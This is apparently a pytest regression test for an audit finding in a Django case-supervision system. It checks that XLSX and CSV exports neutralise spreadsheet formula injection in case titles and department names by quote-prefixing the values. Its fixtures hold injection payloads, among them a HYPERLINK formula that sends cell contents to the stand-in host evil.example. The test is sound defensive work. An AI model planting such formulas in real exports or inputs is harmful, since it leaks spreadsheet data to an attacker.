"""Finding 4: no text typed by a party or an administrator becomes a live formula in an export."""

import csv
import datetime as dt
import io

import pytest
import time_machine
from django.urls import reverse
from openpyxl import load_workbook

from cases.models import State
from supervision.models import Callback, Level

from .conftest import NOW, at, callback, order

pytestmark = [pytest.mark.django_db, pytest.mark.urls("tests.reports.urls")]

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
QUOTED = "'" + EVIL
EVIL_DEPARTMENT = '+HYPERLINK("http://evil.example/","县人民法院")'
EVIL_SHORT = "@SUM(1+1)"  # short_name holds 20 characters


@pytest.fixture(autouse=True)
def _now():
    with time_machine.travel(NOW, tick=False):
        yield


@pytest.fixture
def evil(make_case, department):
    """A closed red case titled with a formula, led by a department whose names are formulas."""
    department.name, department.short_name = EVIL_DEPARTMENT, EVIL_SHORT
    department.save(update_fields=["name", "short_name"])
    case = make_case(
        created=at(2026, 10, 2, 9, 30),
        title=EVIL,
        state=State.CLOSED,
        lead_department=department,
        risk_colour="red",
        accept_by=at(2026, 10, 2, 17),
        accepted_at=at(2026, 10, 2, 10),
        due_by=at(2026, 10, 15, 17),
        submitted_at=at(2026, 10, 10),
        closed_at=at(2026, 10, 17),
    )
    order(case, level=Level.LEADER, issued=at(2026, 10, 16, 9))
    callback(
        case,
        status=Callback.Status.DONE,
        rating="satisfied",
        completed=at(2026, 10, 5),
        month=dt.date(2026, 9, 1),
    )
    return case


def _xlsx(client, user, url):
    client.force_login(user)
    response = client.get(url, {"month": "2026-10"})
    assert response.status_code == 200
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))


def _csv(client, user, url):
    client.force_login(user)
    response = client.get(url, {"month": "2026-10"})
    assert response.status_code == 200
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def _cells(book):
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                yield sheet.title, cell


def _assert_no_formula(book):
    formulas = [(title, cell.coordinate, cell.value) for title, cell in _cells(book) if cell.data_type == "f"]
    assert formulas == []
    texts = [cell.value for _title, cell in _cells(book) if isinstance(cell.value, str)]
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@", "\t", "\r"))]


def _column(sheet, header):
    headers = [cell.value for cell in sheet[1]]
    return [row[headers.index(header)] for row in sheet.iter_rows(min_row=2)]


def test_the_center_workbook_stores_formulas_as_quoted_text(client, leader, evil):
    book = _xlsx(client, leader, reverse("supervision:reports_xlsx"))
    _assert_no_formula(book)
    for sheet_name in ("案件台账", "重点案件"):
        (title,) = _column(book[sheet_name], "事项")
        assert (title.data_type, title.value) == ("s", QUOTED), sheet_name
        (lead,) = _column(book[sheet_name], "牵头单位")
        assert (lead.data_type, lead.value) == ("s", "'" + EVIL_DEPARTMENT), sheet_name
    ranked = [c.value for c in _column(book["部门考评"], "单位")]
    assert {"'" + EVIL_DEPARTMENT, "'" + EVIL_SHORT} & set(ranked)
    (callback_lead,) = _column(book["电话回访"], "牵头单位")
    assert callback_lead.value == "'" + EVIL_DEPARTMENT
    (addressee,) = _column(book["督办单"], "被督办单位")
    assert (addressee.data_type, addressee.value) == ("s", "'" + EVIL_DEPARTMENT)
    # Numbers and dates are still numbers and dates.
    ledger = book["案件台账"]
    (created,) = _column(ledger, "受理时间")
    assert created.data_type == "d" and created.value == dt.datetime(2026, 10, 2, 9, 30)
    assert created.number_format == "yyyy-mm-dd hh:mm"
    (returns,) = _column(ledger, "退回次数")
    assert returns.data_type == "n" and returns.value == 0
    figures = {row[0].value: row[1] for row in book["主要指标"].iter_rows(min_row=2)}
    assert figures["本期受理"].data_type == "n" and figures["本期受理"].value == 1
    assert figures["按期办结率"].data_type == "n" and figures["按期办结率"].value == 1
    assert figures["按期办结率"].number_format == "0.0%"


def test_the_department_workbook_stores_formulas_as_quoted_text(client, liaison, evil):
    book = _xlsx(client, liaison, reverse("supervision:reports_department_xlsx", args=["court"]))
    _assert_no_formula(book)
    (title,) = _column(book["案件台账"], "事项")
    assert (title.data_type, title.value) == ("s", QUOTED)


@pytest.mark.parametrize(
    ("role", "url"),
    [
        ("leader", lambda: reverse("supervision:reports_ledger_csv")),
        ("liaison", lambda: reverse("supervision:reports_department_csv", args=["court"])),
    ],
)
def test_the_ledger_csvs_quote_formulas(client, request, evil, role, url):
    table = _csv(client, request.getfixturevalue(role), url())
    header, (row,) = table[0], table[1:]
    assert row[header.index("事项")] == QUOTED
    assert row[header.index("牵头单位")] == "'" + EVIL_DEPARTMENT
    assert row[header.index("受理时间")] == "2026-10-02 09:30"
    assert row[header.index("退回次数")] == "0"
    assert not [cell for line in table for cell in line if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]
